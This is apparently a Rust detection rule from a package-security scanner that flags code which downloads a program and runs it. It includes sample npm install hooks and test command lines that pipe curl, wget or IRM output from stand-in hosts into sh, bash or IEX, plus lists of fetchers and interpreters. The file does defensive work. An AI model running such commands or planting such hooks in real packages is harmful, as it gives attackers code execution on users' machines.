//! A download runs as a program.

use super::host;
use super::provenance::Whose;
use super::{Context, Declaration, Example, Finding, judge, runs_on_install};
use crate::behaviours::Behaviour;
use crate::model::{Confidence, Reach, Severity, SurfaceKind, Trigger};

pub(super) static FINDING: Declaration = Declaration {
    id: "download-execute",
    title: "Downloads a program and runs it",
    severity: Severity::Critical,
    summary: "A response from the network is written to a file that is then run, or goes straight into a shell or an interpreter.",
    advice: "Look at the host, and whether the download is pinned to a version and checked against a checksum.",
    benign_when: "An installer fetches the package's own binary from its own releases, pinned to its own version.",
    references: &["CWE-494", "CWE-506", "T1059", "T1105"],
    examples: &[
        Example {
            name: "an install script runs what it fetched",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","scripts":{"install":"node i.js"}}"#,
                ),
                (
                    "i.js",
                    r#"const fs = require("fs"), { exec } = require("child_process");
require("https").get("https://files.invalid/tool", (res) => {
  res.pipe(fs.createWriteStream("/tmp/tool.bin")).on("finish", () => exec("/tmp/tool.bin"));
});"#,
                ),
            ],
        },
        Example {
            name: "a hook pipes a download into a shell",
            severity: Some(Severity::Critical),
            files: &[(
                "package.json",
                r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"curl -s https://files.invalid/x | sh"}}"#,
            )],
        },
        Example {
            name: "an answer names the version that git checks out",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const { execFile } = require("child_process");
fetch("https://api.example/latest").then((r) => r.json()).then((latest) => execFile("git", ["checkout", latest.tag]));"#,
                ),
            ],
        },
        Example {
            name: "a hook only shows a page",
            severity: None,
            files: &[(
                "package.json",
                r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"echo see https://docs.example | cat"}}"#,
            )],
        },
    ],
    detect,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    for flow in context.flows {
        if !matches!(flow.id, "download-to-process" | "remote-to-process") {
            continue;
        }
        let from = flow
            .source
            .target
            .as_deref()
            .unwrap_or("an address that is not resolved");
        let what = flow.sink.target.as_deref().unwrap_or("a program");
        let message = format!("what {from} answers is run: {what}");
        let mut finding = Finding::of_flow(&FINDING, flow, message);
        judge::by_destination(context, flow, &flow.source, Severity::Medium, &mut finding);
        if is_own_build(context, from, what) {
            let note = format!(
                "{from} has the shape of a registry's path to this very version, and the file stays in the package's folder"
            );
            finding.lower(Severity::Medium, "version-pinned", note);
        }
        let by_import = flow.reach.loads_on(SurfaceKind::Import);
        if !runs_on_install(flow.reach) && !by_import {
            let note = "somebody has to run a command or call a function".to_owned();
            finding.lower(Severity::High, "not-by-itself", note);
        }
        judge::by_reach(flow, &mut finding);
        found.push(finding);
    }
    for behaviour in context.behaviours {
        if behaviour.what.id == "process.exec"
            && let Some(command) = &behaviour.target
            && let Some(url) = piped_download(command)
        {
            found.push(of_command(context, behaviour, command, url));
        }
    }
}

/// Whether nothing but a tool leads there, and only when somebody asks for it.
fn only_called_by_tools(reach: Reach) -> bool {
    reach == Reach::of(SurfaceKind::Tool, Trigger::Call)
}

/// Whether a download is shaped as a registry's path, names this version, and lands in the
/// package's own folder, as installers of platform builds do.
fn is_own_build(context: &Context<'_>, from: &str, what: &str) -> bool {
    let Some(version) = context.manifest.version.as_deref() else {
        return false;
    };
    let path = host::path(from);
    let is_pinned = path
        .split_once("/-/")
        .is_some_and(|(_, file)| file.split(['/', '-']).any(|part| part.starts_with(version)));
    is_pinned && version.len() >= 5 && what.starts_with("<package>/")
}

fn of_command(context: &Context<'_>, behaviour: &Behaviour, command: &str, url: &str) -> Finding {
    let mut finding = Finding {
        what: &FINDING,
        severity: FINDING.severity,
        confidence: Confidence::High,
        message: format!("a download goes into an interpreter: {command}"),
        reach: behaviour.reach,
        evidence: behaviour.sites.clone(),
        mitigations: Vec::new(),
        parts: vec![host::host(url).unwrap_or_default()],
    };
    if context.home.whose(url) == Some(Whose::Own) {
        let note = "the host is the package's own, by its repository or homepage".to_owned();
        finding.lower(Severity::Medium, "own-host", note);
    }
    if only_called_by_tools(behaviour.reach) {
        let note = "a recipe or a workflow that waits for its tool".to_owned();
        finding.lower(Severity::Low, "waits-for-tool", note);
    }
    if behaviour.reach.is_dormant() {
        let note = "no surface of the package leads to this file".to_owned();
        finding.lower(Severity::Medium, "dormant", note);
    }
    finding
}

/// The address in a command line that feeds a download to a shell or interpreter.
fn piped_download(command: &str) -> Option<&str> {
    let fetches = |part: &str| words(part).any(|word| FETCHERS.contains(&base(word)));
    let url = command
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')' | '|' | ';'))
        .find(|word| word.contains("://"))
        .unwrap_or("");
    let mut parts = command.split('|');
    let mut downloaded = parts.next().is_some_and(fetches);
    for part in parts {
        let first = words(part).find(|word| !matches!(*word, "sudo" | "env" | "exec"));
        if downloaded && first.is_some_and(|word| INTERPRETERS.contains(&base(word))) {
            return Some(url);
        }
        downloaded |= fetches(part);
    }
    // sh -c "$(curl …)", bash <(curl …), eval "$(wget …)"
    let substituted = ["$(", "<(", "`"].iter().any(|open| {
        command.split(open).skip(1).any(|inner| {
            words(inner)
                .next()
                .is_some_and(|word| FETCHERS.contains(&base(word)))
        })
    });
    let starts = words(command).next().map(base).unwrap_or("");
    (substituted && (INTERPRETERS.contains(&starts) || starts == "eval")).then_some(url)
}

const FETCHERS: [&str; 8] = [
    "curl",
    "wget",
    "fetch",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "aria2c",
];
const INTERPRETERS: [&str; 16] = [
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "node",
    "bun",
    "deno",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "iex",
    "invoke-expression",
];

fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ';' | '&' | '('))
        .filter(|word| !word.is_empty())
}

/// The name of a program without its folder, in the case that the lists use.
fn base(word: &str) -> &str {
    let base = word.rsplit('/').next().unwrap_or(word);
    let known = FETCHERS.iter().chain(&INTERPRETERS);
    known
        .copied()
        .find(|known| known.eq_ignore_ascii_case(base.trim_end_matches(".exe")))
        .unwrap_or(base)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn downloads_into_interpreters_are_seen() {
        for command in [
            "curl -fsSL https://a.invalid/x | sudo bash",
            "wget -qO- https://a.invalid/x|/bin/sh",
            "bash -c \"$(curl -fsSL https://a.invalid/x)\"",
            "bash <(curl -s https://a.invalid/x)",
            "IRM https://a.invalid/x | IEX",
        ] {
            assert_eq!(
                piped_download(command),
                Some("https://a.invalid/x"),
                "{command}"
            );
        }
    }

    #[test]
    fn other_pipes_are_not() {
        for command in [
            "curl https://a.example/x -o x.tgz",
            "cat install.sh | sh",
            "curl https://a.example/x | tar xz",
            "echo curl | cat",
        ] {
            assert_eq!(piped_download(command), None, "{command}");
        }
    }
}
